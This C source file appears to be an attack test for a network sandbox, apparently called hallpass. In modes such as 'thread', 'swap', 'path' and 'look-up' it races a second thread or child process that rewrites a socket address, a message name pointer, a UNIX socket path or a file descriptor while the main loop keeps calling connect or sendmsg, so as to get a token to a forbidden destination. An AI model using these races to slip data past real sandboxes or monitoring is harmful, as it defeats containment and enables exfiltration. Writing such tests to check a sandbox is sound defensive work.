// Changing what a call's arguments point to, or which socket its number means, while it is made.
#include "attack.h"

// Named like a session's directory: no target may connect to anything in one.
#define BAD_PATH "hallpass/1-00000000/bad"

static struct {
    struct sockaddr_in address;
    struct sockaddr_un path;
    struct msghdr message;
    struct iovec vector;
    int stop, begun, number, pair[2], loose;
} *shared;

// Each state lasts as long as the other.
static void beat(void) { for (volatile int i = 0; i < 40; i++) ; }
static int flip_port(void *x) {
    shared->begun = 1;
    volatile in_port_t *port = &shared->address.sin_port;
    while (!*(volatile int *)&shared->stop) { *port = htons(good); beat(); *port = htons(bad); beat(); }
    return x != NULL;
}
static int flip_name(void *x) {
    shared->begun = 1;
    void *volatile *name = &shared->message.msg_name;
    while (!*(volatile int *)&shared->stop) { *name = NULL; beat(); *name = &shared->address; beat(); }
    return x != NULL;
}
static int flip_path(void *x) {
    shared->begun = 1;
    volatile char *first = shared->path.sun_path + strlen(BAD_PATH) - 3;
    while (!*(volatile int *)&shared->stop) { *first = 'b'; beat(); *first = 'x'; beat(); }
    return x != NULL;
}
// The number is now the UNIX socket, now the one of IP.
static int swap(void *x) {
    shared->begun = 1;
    while (!*(volatile int *)&shared->stop) {
        dup2(shared->pair[0], shared->number);
        dup2(shared->loose, shared->number);
    }
    return x != NULL;
}
// Whatever socket is under the number: what can be sent on it is sent.
static int send_on(void *x) {
    shared->begun = 1;
    while (!*(volatile int *)&shared->stop) send(*(volatile int *)&shared->number, token, strlen(token), MSG_DONTWAIT | MSG_NOSIGNAL);
    return x != NULL;
}
static void *thread(void *work) { ((int (*)(void *))work)(NULL); return NULL; }
static void in_thread(int (*work)(void *)) {
    pthread_t t;
    pthread_create(&t, NULL, thread, work);
}
static char stack[1 << 16] __attribute__((aligned(16)));
static int in_clone(int (*work)(void *), int flags) { return must(clone(work, stack + sizeof stack, flags | SIGCHLD, NULL)); }
static int in_fork(int (*work)(void *)) { int pid = fork(); if (!pid) _exit(work(NULL)); return pid; }

// As often as told, and long enough for the other one to have its turn.
static int goes_on(int tried) {
    static struct timespec start;
    struct timespec now;
    if (tried < tries) return 1;
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (!start.tv_sec) start = now;
    return (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < 300;
}

// Until the other one is at work.
static void begun(void) { while (!*(volatile int *)&shared->begun) usleep(100); usleep(1000); }

// To the address that somebody rewrites.
static void connect_often(void) {
    begun();
    for (int i = 0; goes_on(i); i++) {
        int fd = must(socket(AF_INET, SOCK_STREAM, 0));
        struct linger hard = {1, 0};
        setsockopt(fd, SOL_SOCKET, SO_LINGER, &hard, sizeof hard);
        if (connect(fd, SA(&shared->address), sizeof shared->address) == 0) send(fd, token, strlen(token), MSG_NOSIGNAL);
        close(fd);
    }
}
static void send_often(int fd) {
    char sink[65536];
    begun();
    for (int i = 0; goes_on(i); i++) {
        sendmsg(fd, &shared->message, MSG_DONTWAIT | MSG_NOSIGNAL);
        if (shared->pair[1]) recv(shared->pair[1], sink, sizeof sink, MSG_DONTWAIT);
    }
}

int main(int argc, char **argv) {
    begin(argc, argv);
    shared = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    shared->address = in4(bad);
    shared->vector = (struct iovec){(void *)token, strlen(token)};
    shared->message = (struct msghdr){.msg_iov = &shared->vector, .msg_iovlen = 1, .msg_namelen = sizeof shared->address};
    int child = 0;
    if (is("thread")) { in_thread(flip_port); connect_often(); }
    else if (is("sibling")) { child = in_fork(flip_port); connect_often(); }
    else if (is("memory")) { child = in_clone(flip_port, CLONE_VM); connect_often(); }
    else if (is("name")) {
        struct sockaddr_in a = in4(good);
        int fd = must(socket(AF_INET, SOCK_DGRAM, 0));
        must(connect(fd, SA(&a), sizeof a));
        in_thread(flip_name);
        send_often(fd);
    } else if (is("swap") || is("descriptors")) {
        must(socketpair(AF_UNIX, SOCK_STREAM, 0, shared->pair));
        shared->loose = must(socket(AF_INET, SOCK_DGRAM, 0));
        shared->number = must(dup(shared->pair[0]));
        if (is("swap")) { in_thread(swap); in_thread(flip_name); }
        else { shared->message.msg_name = &shared->address; child = in_clone(swap, CLONE_FILES); }
        send_often(shared->number);
    } else if (is("look-up")) {
        // "I am in getaddrinfo" (docs/wire.md): what it connects to find its own address is not asked about.
        const char note[] = {'h', 'p', 'N', 'T', atoi(argv[9]), 0, 1, 0, 0, 0};
        in_thread(send_on);
        begun();
        for (int i = 0; goes_on(i); i++) {
            connect(-1, (const struct sockaddr *)note, sizeof note);
            shared->number = must(socket(AF_INET, SOCK_DGRAM, 0));
            connect(shared->number, SA(&shared->address), sizeof shared->address);
            close(shared->number);
        }
    } else if (is("path")) {
        // Refused under one spelling, not there under the other.
        shared->path = (struct sockaddr_un){.sun_family = AF_UNIX, .sun_path = BAD_PATH};
        child = in_fork(flip_path);
        begun();
        for (int i = 0; goes_on(i); i++) {
            int fd = must(socket(AF_UNIX, SOCK_STREAM, 0));
            if (connect(fd, SA(&shared->path), sizeof shared->path) == 0) send(fd, token, strlen(token), MSG_NOSIGNAL);
            close(fd);
        }
    } else return 2;
    shared->stop = 1;
    if (child) { kill(child, SIGKILL); waitpid(child, NULL, 0); }
    return 0;
}
